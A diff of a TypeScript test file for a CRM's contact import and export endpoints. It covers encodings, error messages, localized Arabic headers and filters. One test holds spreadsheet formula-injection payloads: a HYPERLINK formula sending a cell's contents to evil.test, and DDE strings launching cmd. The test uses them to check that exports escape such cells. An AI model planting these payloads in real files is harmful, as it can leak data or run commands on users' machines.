@@ -5,6 +5,7 @@ import { startTestApp, type TestApp } from '../../../test/test-app.js';
 import { seedCompany, signIn, type SeededCompany } from '../../../test/fixtures.js';
 import { CONTACT_EXPORT_HEADERS } from './contacts-export.js';
 import { addLead, expectTotalsMatchCounts, moveTo, seedProducts, setLeadDistribution } from '../../../test/crm-fixtures.js';
+import { importAndWait } from '../../../test/imports.js';
 
 let t: TestApp;
 let acme: SeededCompany;
@@ -36,7 +37,7 @@ function workbook(rows: unknown[][], bookType: 'xlsx' | 'xls'): Buffer {
 function upload(content: Buffer | string, filename: string, as = token.admin, field = 'file') {
   const form = new FormData();
   form.append(field, new Blob([typeof content === 'string' ? Buffer.from(content) : new Uint8Array(content)]), filename);
-  return t.api.post('/contacts/import', form, { token: as });
+  return importAndWait(t, form, as);
 }
 
 async function count(as = token.admin) {
@@ -75,7 +76,7 @@ describe('POST /contacts/import', () => {
       created: 2,
       updated: 1,
       skipped: 1,
-      // the skipped row with its number and why (issue 16: shown on screen after the import)
+      // the skipped row with its number and why (shown on screen after the import)
       skippedRows: [{ row: 9, code: 'nothing_to_fill', reason: 'Already a contact; the row had nothing to add to it' }],
       rejected: [
         { row: 3, reason: 'Phone is missing' },
@@ -130,7 +131,9 @@ describe('POST /contacts/import', () => {
 
   it('reads a Windows-1256 .csv (Excel in Arabic) and first/last name columns', async () => {
     // "الاسم الاول,اسم العائلة,الهاتف" in Windows-1256, then ASCII data
-    const header = Buffer.from([0xc7, 0xe1, 0xc7, 0xd3, 0xe3, 0x20, 0xc7, 0xe1, 0xc7, 0xe6, 0xe1, 0x2c, 0xc7, 0xd3, 0xe3, 0x20, 0xc7, 0xe1, 0xda, 0xc7, 0xc6, 0xe1, 0xc9, 0x2c, 0xc7, 0xe1, 0xe5, 0xc7, 0xca, 0xdd]);
+    const header = Buffer.from([
+      0xc7, 0xe1, 0xc7, 0xd3, 0xe3, 0x20, 0xc7, 0xe1, 0xc7, 0xe6, 0xe1, 0x2c, 0xc7, 0xd3, 0xe3, 0x20, 0xc7, 0xe1, 0xda, 0xc7, 0xc6, 0xe1, 0xc9, 0x2c, 0xc7, 0xe1, 0xe5, 0xc7, 0xca, 0xdd,
+    ]);
     expect(new TextDecoder('windows-1256').decode(header)).toBe('الاسم الاول,اسم العائلة,الهاتف');
     const res = await upload(Buffer.concat([header, Buffer.from('\r\nOmar,Khaled,01277776666\r\n')]), 'win.csv');
     expect(res.status, res.body.error).toBe(200);
@@ -164,7 +167,11 @@ describe('POST /contacts/import', () => {
       [Buffer.from([0x00, 0x01, 0x02, 0x4e, 0x61, 0x6d, 0x65]), 'binary.csv', 'The file could not be read: it is not a CSV text file.'],
       ['Name,Phone\nA,01000000009\n', 'leads.txt', 'Upload an .xlsx, .xls or .csv file.'],
       ['', 'empty.csv', 'The file is empty.'],
-      ['Name,Email\nNo phone column,a@b.test\n', 'nophone.csv', 'No phone column found. The first row must name the columns, e.g. Name, Phone, Email, Address, Notes (or الاسم، الهاتف، البريد، العنوان، ملاحظات).'],
+      [
+        'Name,Email\nNo phone column,a@b.test\n',
+        'nophone.csv',
+        'No phone column found. The first row must name the columns, e.g. Name, Phone, Email, Address, Notes (or الاسم، الهاتف، البريد، العنوان، ملاحظات).',
+      ],
       ['Name,Phone\n\n\n', 'header-only.csv', 'The file has no rows to import.'],
     ];
     for (const [content, name, error] of cases) {
@@ -207,7 +214,10 @@ describe('GET /contacts/export', () => {
     await moveTo(t, token.admin, deal._id, 'sales');
     await t.api.patch(
       `/contacts/${deal._id}`,
-      { salesData: { pipeline_status: 'won', probability: 90, shippingDetails: { status: 'delivered', address: { governorate: 'Cairo', city: 'Maadi' } } }, products: [{ productId: product.id, qty: 2 }] },
+      {
+        salesData: { pipeline_status: 'won', probability: 90, shippingDetails: { status: 'delivered', address: { governorate: 'Cairo', city: 'Maadi' } } },
+        products: [{ productId: product.id, qty: 2 }],
+      },
       { token: token.admin },
     );
     t.clock.set(new Date('2026-03-10T08:00:00Z'));
@@ -258,7 +268,7 @@ describe('GET /contacts/export', () => {
     expect(utc[0]['Created At']).toBe('2026-03-09 20:30');
   });
 
-  it("writes the column heads in the user's language; an Arabic export re-imports as it is (issue 10)", async () => {
+  it("writes the column heads in the user's language; an Arabic export re-imports as it is", async () => {
     const english = XLSX.utils.sheet_to_json<unknown[]>(XLSX.read((await download('?q=Export Deal')).body, { type: 'buffer' }).Sheets.Contacts, { header: 1 })[0];
     expect(english).toEqual([...CONTACT_EXPORT_HEADERS]);
 
@@ -266,7 +276,27 @@ describe('GET /contacts/export', () => {
     try {
       const { body } = await download('?q=Export Deal');
       const [heads, ...cells] = XLSX.utils.sheet_to_json<unknown[]>(XLSX.read(body, { type: 'buffer' }).Sheets.Contacts, { header: 1, raw: false });
-      expect(heads).toEqual(['الاسم', 'الهاتف', 'البريد الإلكتروني', 'العنوان', 'المرحلة', 'المسؤول', 'حالة الصفقة', 'المبلغ', 'الاحتمالية', 'المنتجات', 'شركة الشحن', 'رقم التتبع', 'حالة الشحن', 'تكلفة الشحن', 'المحافظة', 'المدينة', 'الشارع', 'ملاحظات', 'تاريخ الإنشاء']);
+      expect(heads).toEqual([
+        'الاسم',
+        'الهاتف',
+        'البريد الإلكتروني',
+        'العنوان',
+        'المرحلة',
+        'المسؤول',
+        'حالة الصفقة',
+        'المبلغ',
+        'الاحتمالية',
+        'المنتجات',
+        'شركة الشحن',
+        'رقم التتبع',
+        'حالة الشحن',
+        'تكلفة الشحن',
+        'المحافظة',
+        'المدينة',
+        'الشارع',
+        'ملاحظات',
+        'تاريخ الإنشاء',
+      ]);
       expect(cells[0]).toEqual(expect.arrayContaining(['Export Deal', '+201500000001', 'deal@x.test']));
 
       // the Arabic file, imported by a new company, gives the same contact
@@ -285,7 +315,10 @@ describe('GET /contacts/export', () => {
     for (const query of ['?sortBy=name&order=asc', `?assignedTo=${acme.sales[0].id}`, '?assignedTo=unassigned&q=010', `?productId=${product.id}`, '?from=2026-03-10&to=2026-03-10']) {
       const rows = read((await download(query)).body);
       const list = await t.api.get(`/contacts${query}${query ? '&' : '?'}limit=500`, { token: token.admin });
-      expect(rows.map((r) => r.Phone), query).toEqual(list.body.data.items.map((c: { phone: string }) => c.phone));
+      expect(
+        rows.map((r) => r.Phone),
+        query,
+      ).toEqual(list.body.data.items.map((c: { phone: string }) => c.phone));
     }
     const empty = read((await download('?q=nobody-at-all')).body);
     expect(empty).toEqual([]);
@@ -300,9 +333,9 @@ describe('GET /contacts/export', () => {
     expect(foreign.map((r) => r.Phone)).not.toContain('+201500000001');
   });
 
-  it('exports cells typed as formulas (=, +, -, @) as the text they are, never as a formula', async () => {
+  it("exports cells typed as formulas (=, +, -, @) as text, never a formula, prefixed with ' so a re-save as CSV keeps them inert (OWASP)", async () => {
     const typed = [
-      ['=HYPERLINK("http://evil.test/?leak="&A1,"Invoice")', '+1+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
+      ['=HYPERLINK("http://evil.test/?leak="&A1,"Invoice")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"],
       ['-2+3', '=1+2', '+201001234567'],
     ];
     const csv = ['Name,Phone,Address,Notes', ...typed.map((r, i) => [r[0], `0104444000${i}`, r[1], r[2]].map((c) => `"${c.replace(/"/g, '""')}"`).join(','))].join('\n');
@@ -319,13 +352,37 @@ describe('GET /contacts/export', () => {
       const r = cells.find(([, cell]) => cell.v === phone)![0].replace(/^[A-Z]+/, '');
       return { name: sheet[`A${r}`], phone: sheet[`B${r}`], address: sheet[`D${r}`], notes: sheet[`R${r}`] };
     };
+    // the file is read as a user's spreadsheet reads it, and every such cell is text starting with '
     expect(row('+201044440000')).toMatchObject({
-      name: { t: 's', v: typed[0][0] },
-      phone: { t: 's', v: '+201044440000' }, // a phone stays usable: text, with its +
-      address: { t: 's', v: typed[0][1] },
-      notes: { t: 's', v: typed[0][2] },
+      name: { t: 's', v: `'${typed[0][0]}` },
+      phone: { t: 's', v: '+201044440000' }, // a phone stays usable: text, with its + and no quote
+      address: { t: 's', v: `'${typed[0][1]}` },
+      notes: { t: 's', v: `'${typed[0][2]}` },
     });
-    expect(row('+201044440001')).toMatchObject({ name: { t: 's', v: '-2+3' }, address: { t: 's', v: '=1+2' }, notes: { t: 's', v: '+201001234567' } });
+    expect(row('+201044440001')).toMatchObject({ name: { t: 's', v: "'-2+3" }, address: { t: 's', v: "'=1+2" }, notes: { t: 's', v: '+201001234567' } });
+    // re-saved as CSV, the cells stay the quoted text
+    const csvAgain = XLSX.read(XLSX.utils.sheet_to_csv(sheet), { type: 'string', raw: true });
+    const csvCells = XLSX.utils.sheet_to_json<string[]>(csvAgain.Sheets[csvAgain.SheetNames[0]], { header: 1, raw: false }).flat().map(String);
+    expect(csvCells).toContain(`'${typed[0][0]}`);
+    // only plain signed numbers (the phones) start with + or -
+    expect(csvCells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]\d+$/.test(cell))).toEqual([]);
+
+    // the export imports back as it was typed: the quote is read off (here by another company)
+    const initech = await seedCompany(t, 'initech-formulas', { sales: 1 });
+    const initechAdmin = await signIn(t, initech.admin.email);
+    await setLeadDistribution(t, initechAdmin, 'manual');
+    const again = await upload(body, 'formulas-again.xlsx', initechAdmin);
+    expect(again.body.data, again.body.error).toMatchObject({ created: 2, rejected: [] });
+    expect(await byPhone('01044440000', initechAdmin)).toMatchObject({ name: typed[0][0], address: typed[0][1], notes: typed[0][2] });
+    expect(await byPhone('01044440001', initechAdmin)).toMatchObject({ name: '-2+3', address: '=1+2', notes: '+201001234567' });
+  });
+
+  it('keeps amounts as number cells, with the deal amount as a number', async () => {
+    const { body } = await download('?q=Export Deal');
+    const book = XLSX.read(body, { type: 'buffer' });
+    const sheet = book.Sheets[book.SheetNames[0]];
+    expect(sheet.H2).toMatchObject({ t: 'n', v: 1800 }); // Amount
+    expect(sheet.I2).toMatchObject({ t: 'n', v: 90 }); // Probability
   });
 
   it('answers bad filters with the JSON error, not a file', async () => {
